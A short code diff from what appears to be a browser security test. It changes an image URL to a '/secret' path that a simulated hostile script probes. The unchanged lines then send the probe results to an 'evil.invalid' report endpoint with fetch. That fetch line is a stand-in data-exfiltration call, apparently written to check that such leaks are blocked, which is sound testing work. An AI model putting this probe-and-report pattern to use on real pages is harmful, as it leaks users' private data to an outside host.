@@ -33,7 +33,7 @@ function requestHead(stream, method, uri) {
   seen.img = await new Promise((resolve) => {
     const img = new Image();
     img.onload = () => resolve('loaded'); img.onerror = () => resolve('error');
-    img.src = 'https://app.invalid/pages/pixel.svg?from-evil';
+    img.src = 'https://app.invalid/secret?img'; // not a public mount
   });
   await fetch('https://evil.invalid/report?d=' + encodeURIComponent(JSON.stringify(seen))).catch(() => {});
 })();
